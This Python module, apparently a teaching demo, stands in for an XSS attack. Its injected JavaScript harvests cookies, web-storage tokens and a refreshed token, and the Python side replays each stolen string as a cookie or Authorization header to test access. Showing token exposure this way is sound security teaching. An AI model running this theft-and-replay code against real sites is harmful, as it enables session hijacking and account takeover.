"""An XSS stand-in: what a script injected into the page can take, and a thief's replay.

The script runs in the page (as injected markup would), reads everything page JavaScript
can read, and asks the chapter for a fresh token where the page could (the refresh
endpoint adds the cookie by itself). The replay is a plain HTTP client outside the
browser, trying every string it took as a cookie and as every `Authorization` scheme.
"""

import re
import urllib.error
import urllib.request

SCHEMES = ("Bearer", "Token", "JWT")

STEAL = """
const [demo, done] = [arguments[0], arguments[arguments.length - 1]];
const loot = [document.cookie];
for (const storage of [localStorage, sessionStorage])
  for (const key of Object.keys(storage)) loot.push(storage.getItem(key));
const csrf = (document.cookie.match(/csrftoken=([^;]+)/) || [])[1] || "";
const refreshed = demo.refresh
  ? fetch(demo.refresh, {
      method: "POST",
      headers: {"Content-Type": "application/json", "X-CSRFToken": csrf},
      body: JSON.stringify({refresh: localStorage.getItem("demo.refresh") || undefined}),
    }).then((r) => r.text())
  : Promise.resolve("");
refreshed.then((body) => done({cookies: document.cookie, loot: [...loot, body]}),
               () => done({cookies: document.cookie, loot}));
"""

JWT = re.compile(r"eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+")


def steal(driver, demo):
    """{cookies: document.cookie, loot: [every string the script could take]}."""
    return driver.execute_async_script(STEAL, demo)


def candidates(loot):
    """The strings worth trying: whole values, and any JWT or key inside a JSON body."""
    found = set()
    for text in loot:
        if not text:
            continue
        found.add(text)
        found.update(JWT.findall(text))
        found.update(re.findall(r'"(?:token|key|access)"\s*:\s*"([^"]+)"', text))
    return found


def status(url, headers):
    request = urllib.request.Request(url, headers={"Accept": "application/json", **headers})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


def replay(base_url, stolen):
    """The replays that got `GET /api/secret/` answered 200, as readable strings."""
    url = f"{base_url}/api/secret/"
    attempts = [{"Cookie": stolen["cookies"]}] if stolen["cookies"] else []
    for value in candidates(stolen["loot"]):
        attempts += [{"Authorization": f"{scheme} {value}"} for scheme in SCHEMES]
    return [headers for headers in attempts if status(url, headers) == 200]
